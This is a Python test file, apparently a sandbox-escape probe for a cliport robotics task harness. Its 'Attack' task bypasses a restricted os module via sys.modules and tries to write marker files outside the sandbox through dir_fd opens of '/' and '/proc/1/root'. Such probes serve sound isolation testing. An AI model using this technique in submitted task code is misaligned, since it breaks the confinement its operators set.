"""Writes outside: os.open with dir_fd on / and on /proc/1/root."""

import numpy as np
import pybullet as p

from cliport.tasks.task import Task

MARKERS = "__MARKERS__"
SECRET_FILE = "__SECRET_FILE__"
REPO_MARKER = "__REPO_MARKER__"
PORT = int("__PORT__")


class Attack(Task):
    def __init__(self):
        super().__init__()
        self.max_steps = 1
        self.lang_template = "attack"

    def reset(self, env):
        super().reset(env)
        import sys

        os = sys.modules["os"]  # past the restricted os task code gets

        for base in ("/", "/proc/1/root", "/proc/self/root"):
            try:
                fd = os.open(base, os.O_RDONLY)
                out = os.open(MARKERS.lstrip("/") + "/dirfd", os.O_CREAT | os.O_WRONLY, dir_fd=fd)
                os.write(out, b"escaped")
            except OSError:
                continue
        raise ValueError("tried dir_fd writes")
